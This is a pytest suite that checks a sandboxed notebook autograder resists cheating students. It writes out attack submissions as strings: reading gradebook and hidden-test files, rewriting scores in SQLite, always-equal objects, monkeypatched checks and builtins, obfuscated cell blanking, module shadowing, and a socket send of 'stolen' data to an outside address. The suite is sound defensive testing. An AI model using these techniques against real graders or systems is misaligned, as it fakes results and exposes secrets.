"""Students cannot cheat the grader. Each attack is a submission of notebook 01, graded once with
the sandbox (real CLI, real nbgrader): it gains no points, leaks no hidden test, and the grader
and the rest of the class are unharmed."""
import html
import re
import socket
import threading

import nbformat
import pytest

from autograder.sandbox import bwrap_works
from autograder.simulate import submission, write
from conftest import grade, results_of

NB = "01_hand_example"
pytestmark = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap is not available (.ci/run installs it)")

READ_SECRETS = '''
import glob, os, pathlib
import bpe_course
found = []
here = pathlib.Path.cwd()
for folder in [here, *here.parents, pathlib.Path(bpe_course.__file__).parent.parent]:
    for pattern in ("gradebook.db", "source/*/*.ipynb", "solutions/*.ipynb", "release/*/*.ipynb", "submitted/*/*/*.ipynb"):
        found += glob.glob(str(folder / pattern))
print("FOUND", found)
for path in found:
    try:
        print(open(path, encoding="utf-8", errors="replace").read())
    except OSError as e:
        print("cannot read", path, e)
'''
WRITE_GRADEBOOK = '''
import pathlib, sqlite3
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    db = folder / "gradebook.db"
    if db.exists():
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = max_score")
        con.commit()
        print("WROTE", db)
'''
ALWAYS_EQUAL = '''
class Anything(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def count_pairs(corpus): return Anything()
def merge_pair(corpus, pair): return Anything()
def learn_merges(word_freqs, num_merges): return Anything()
'''
PATCH_CHECKS = "import bpe_course.checks as c\nc.check_equal = c.check = lambda *a, **k: None"
PATCH_BUILTINS = "import builtins\nbuiltins.isinstance = lambda *a: True"
HIDE_TRACEBACKS = ("from IPython.core.interactiveshell import InteractiveShell\n"
                   "InteractiveShell.showtraceback = lambda *a, **k: None")
BLANK_LATER_CELLS = "get_ipython().input_transformers_cleanup.append(lambda lines: [])"
# the same, written so that no name gives it away: the grader must still not count blank tests
BLANK_LATER_CELLS_HIDDEN = ("ip = globals()['get_' + 'ipy' + 'thon']()\n"
                            "getattr(ip, 'input_' + 'trans' + 'formers_cleanup').append(lambda lines: [])")
SHADOW_MODULE = '''
import pathlib
fake = pathlib.Path("bpe_course")
fake.mkdir(exist_ok=True)
(fake / "__init__.py").write_text("")
(fake / "checks.py").write_text("def check(*a, **k): pass\\ndef check_equal(*a, **k): pass\\ndef run(f, *a, **k): return None\\n")
mods = __import__("s" + "ys").__dict__["mod" + "ules"]
for name in [n for n in mods if n.startswith("bpe_course")]:
    mods.pop(name)
'''
FAKE_OUTPUT = 'print("All tests passed! 17/17 ✓")'


def network_attack(port: int) -> str:
    return f'''
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=3).sendall(b"stolen")
        print("CONNECTED", host)
    except OSError as e:
        print("no network:", e)
'''


def skip_all_tests(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.setdefault("tags", []).append("skip-execution")
    return notebook


@pytest.fixture(scope="module")
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    received = []

    def accept():
        while not stop.is_set():
            try:
                received.append(server.accept())
            except OSError:
                pass
    stop = threading.Event()
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def attacks(tmp_path_factory, listener):
    port, received = listener
    unsolved = lambda source: submission(NB, solved=False, replace={"count_pairs": source})
    cases = {
        "read_secrets": unsolved(READ_SECRETS),
        "write_gradebook": unsolved(WRITE_GRADEBOOK),
        "always_equal": submission(NB, solved=False, replace={"count_pairs": ALWAYS_EQUAL}),
        "patch_checks": unsolved(PATCH_CHECKS),
        "patch_builtins": unsolved(PATCH_BUILTINS),
        "hide_tracebacks": unsolved(HIDE_TRACEBACKS),
        "blank_later_cells": unsolved(BLANK_LATER_CELLS),
        "blank_later_cells_hidden": unsolved(BLANK_LATER_CELLS_HIDDEN),
        "shadow_module": unsolved(SHADOW_MODULE),
        "fake_output": unsolved(FAKE_OUTPUT),
        "skip_execution": skip_all_tests(submission(NB, solved=False)),
        "network": unsolved(network_attack(port)),
        "honest": submission(NB),
    }
    base = tmp_path_factory.mktemp("attacks")
    for student, notebook in cases.items():
        write(notebook, base / "class" / student / f"{NB}.ipynb")
    run = grade(base / "class", base / "out", "--work", str(base / "work"), "--jobs", "2", "--cell-timeout", "30")
    return results_of(base / "out"), base / "work", run, received, base / "out"


def autograded_text(work, student):
    """Everything the student's notebook printed while graded (what its feedback would show)."""
    path = work / "students" / student / "autograded" / student / NB / f"{NB}.ipynb"
    if not path.exists():
        return ""
    texts = []
    for cell in nbformat.read(str(path), 4).cells:
        for output in cell.get("outputs", []):
            texts += [output.get("text", ""), output.get("evalue", ""), *output.get("traceback", []),
                      str(output.get("data", {}).get("text/plain", ""))]
    return "\n".join(texts)


ATTACKS = ["read_secrets", "write_gradebook", "always_equal", "patch_checks", "patch_builtins", "hide_tracebacks",
           "blank_later_cells", "blank_later_cells_hidden", "shadow_module", "fake_output", "skip_execution", "network"]


@pytest.mark.parametrize("student", ATTACKS)
def test_an_attack_gains_no_points(attacks, student):
    results, *_ = attacks
    r = results[student, NB]
    assert r["score"] == 0, (r["status"], r["message"], [t for t in r["tests"] if t["score"]])


def feedback_text(out, student):
    path = out / "feedback" / student / f"{NB}.html"
    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8"))) if path.exists() else ""


@pytest.mark.parametrize("student", ATTACKS)
def test_an_attack_leaks_no_hidden_test(attacks, student):
    *_, out = attacks
    text = feedback_text(out, student)
    assert "HIDDEN TESTS" not in text and "sennrich[:6]" not in text
    honest = feedback_text(out, "honest")
    assert honest and "sennrich[:6]" not in honest


def test_the_sandbox_hides_the_course_and_the_gradebook(attacks):
    results, work, *_ = attacks
    text = autograded_text(work, "read_secrets")
    assert "FOUND []" in text, text[:2000]
    assert "WROTE" not in autograded_text(work, "write_gradebook")


def test_no_network_from_student_code(attacks):
    _, work, _, received, _ = attacks
    assert received == []
    assert "CONNECTED" not in autograded_text(work, "network")
    assert "no network" in autograded_text(work, "network")


def test_tampering_code_is_flagged_for_review(attacks):
    results, *_ = attacks
    for student in ("patch_checks", "patch_builtins", "hide_tracebacks", "blank_later_cells"):
        r = results[student, NB]
        assert r["status"] == "flagged" and "tampers" in r["message"], r


def test_the_honest_student_is_graded_as_usual(attacks):
    results, _, run, *_ = attacks
    r = results["honest", NB]
    assert r["status"] == "graded" and r["score"] == r["max_score"], r["message"]
    assert run.returncode == 1  # finished; the flagged notebooks are reported


def test_the_sandbox_does_not_change_a_correct_grade(tmp_path):
    write(submission(NB), tmp_path / "class" / "honest" / f"{NB}.ipynb")
    grade(tmp_path / "class", tmp_path / "free", "--no-feedback", "--no-sandbox")
    grade(tmp_path / "class", tmp_path / "boxed", "--no-feedback")
    free, boxed = results_of(tmp_path / "free"), results_of(tmp_path / "boxed")
    assert free == boxed and free["honest", NB]["score"] == free["honest", NB]["max_score"]
